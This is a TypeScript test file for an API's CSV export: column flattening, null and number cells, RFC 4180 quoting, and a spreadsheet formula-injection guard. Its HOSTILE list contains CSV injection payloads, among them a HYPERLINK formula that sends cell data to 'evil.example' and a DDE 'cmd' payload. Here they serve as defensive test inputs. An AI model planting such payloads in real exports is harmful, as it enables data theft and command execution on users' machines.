import { describe, expect, it } from 'vitest';
import { ApiCompanySchema, ApiFilingSchema, ApiNewsSchema, ApiOutcomeSchema } from '../../schema/api/resources.schema.ts';
import { documentExamples } from '../openapi/examples.ts';
import { csvColumns, includeTokenOf } from './csv-columns.ts';
import { csvDocument, csvField, csvRecord } from './csv-record.ts';
import { CSV_LISTS, csvShowsItems, parseCsv } from './csv.testkit.ts';

/** A list's served example (api/openapi/examples.json: a real page of the bundled sample) and the include tokens it was asked with. */
function served(example: string): { items: Record<string, unknown>[]; include: string[] } {
  const { request, value } = documentExamples().responses[example];
  const url = new URL(request.replace(/^GET /, ''), 'http://example.test');
  const body = value as { data?: Record<string, unknown>[]; items?: Record<string, unknown>[] };
  return { items: body.data ?? body.items!, include: url.searchParams.get('include')?.split(',') ?? [] };
}

const newsItem = () => structuredClone(served('NewsList').items[0]);

describe('CSV records of served list items', () => {
  it.each(CSV_LISTS)('$response: every property of every served item reads back from its cell', ({ response, item }) => {
    const { items, include } = served(response);
    expect(items.length).toBeGreaterThan(0);
    const columns = csvColumns(item, include);
    csvShowsItems(csvDocument(columns, items.map((i) => JSON.stringify(i))), columns, items);
  });

  it('flattens nested objects with dot paths and writes arrays and maps as JSON text', () => {
    const { items, include } = served('FilingList');
    const columns = csvColumns(ApiFilingSchema, include);
    const names = columns.map((c) => c.name);
    expect(names).toContain('terms.offeringPrice');
    expect(names).toContain('aiEnrichment.narrativeSummary');
    expect(names).not.toContain('terms');
    const underwriters = columns.findIndex((c) => c.name === 'terms.underwriters');
    expect(columns[underwriters].kind).toBe('json');
    const withUnderwriters = items.find((i) => Array.isArray((i.terms as { underwriters?: unknown } | null)?.underwriters))!;
    const [, record] = parseCsv(csvDocument(columns, [JSON.stringify(withUnderwriters)]));
    expect(JSON.parse(record[underwriters])).toEqual((withUnderwriters.terms as { underwriters: string[] }).underwriters);
    const consensus = csvColumns(ApiCompanySchema, ['consensus']).find((c) => c.name === 'consensus.sourceSummary');
    expect(consensus?.kind).toBe('json');
  });

  it('has the same header on every page: columns come from the schema and include, not from the data', () => {
    const { items, include } = served('CompanyList');
    const columns = csvColumns(ApiCompanySchema, include);
    const headerOf = (list: unknown[]) => parseCsv(csvDocument(columns, list.map((i) => JSON.stringify(i))))[0];
    const emptied = items.map((i) => ({ ...i, latestTerms: null, classification: null, consensus: null }));
    expect(headerOf(items)).toEqual(headerOf([]));
    expect(headerOf(emptied)).toEqual(headerOf([]));
    expect(csvDocument(columns, [])).toBe(`${columns.map((c) => c.name).join(',')}\r\n`);
  });

  it('leaves out the columns of an include token the request did not name, as JSON leaves out the property', () => {
    const without = csvColumns(ApiCompanySchema).map((c) => c.name);
    expect(without.some((name) => name.startsWith('latestTerms.'))).toBe(false);
    expect(csvColumns(ApiCompanySchema, ['latest_terms']).map((c) => c.name).filter((n) => !without.includes(n)).every((n) => n.startsWith('latestTerms.'))).toBe(true);
    // Every include-gated property of a list item is named by a token of its list's include parameter.
    for (const { item, includes } of CSV_LISTS) {
      const optional = Object.keys(item.properties as object).filter((name) => !(item.required as string[]).includes(name));
      for (const name of optional) expect(includes, name).toContain(includeTokenOf(name));
    }
  });

  it('writes null as an empty cell, a null object as empty cells, numbers and booleans as JSON writes them', () => {
    const item = newsItem();
    const columns = csvColumns(ApiNewsSchema);
    const cells = (value: Record<string, unknown>) => parseCsv(csvRecord(columns, JSON.stringify(value)))[0];
    const at = (name: string) => columns.findIndex((c) => c.name === name);
    expect(cells({ ...item, description: null })[at('description')]).toBe('');
    const unmatched = cells({ ...item, match: null });
    expect([unmatched[at('match.reason')], unmatched[at('match.confidence')]]).toEqual(['', '']);
    expect(cells({ ...item, match: { reason: 'cashtag', confidence: 0.8 } })[at('match.confidence')]).toBe('0.8');
    const outcome = served('OutcomeList').items[0];
    const outcomeColumns = csvColumns(ApiOutcomeSchema);
    const loss = parseCsv(csvRecord(outcomeColumns, JSON.stringify({ ...outcome, day1ReturnPct: -12.5 })))[0];
    // A negative number is a number to a spreadsheet, not a formula: it is not guarded.
    expect(loss[outcomeColumns.findIndex((c) => c.name === 'day1ReturnPct')]).toBe('-12.5');
  });
});

describe('CSV quoting and formula guard', () => {
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=1+1',
    '+1+cmd|\' /C calc\'!A0',
    '-2+3',
    '@SUM(1,2)',
    '\t=1',
    '\r=1',
    '\n=1',
    "'already quoted",
    'a, b',
    'say "hi"',
    'line\r\nbreak',
    'lone\rCR',
    'lone\nLF',
    '"',
    ',',
    ' leading space',
    'Société Générale 株式会社 😀',
  ];

  it.each(HOSTILE)('%j in a real news title reads back exactly, and never starts a cell with a formula character', (title) => {
    const item = { ...newsItem(), title };
    const columns = csvColumns(ApiNewsSchema);
    const text = csvRecord(columns, JSON.stringify(item));
    csvShowsItems(csvDocument(columns, [JSON.stringify(item)]), columns, [item]);
    const cell = parseCsv(text)[0][columns.findIndex((c) => c.name === 'title')];
    expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    if (/^[=+\-@\t\r\n']/.test(title)) expect(cell).toBe(`'${title}`);
    else expect(cell).toBe(title);
  });

  it('quotes exactly the fields RFC 4180 requires', () => {
    expect(csvField('plain text')).toBe('plain text');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('a\r\nb')).toBe('"a\r\nb"');
    expect(csvField('')).toBe('');
  });
});
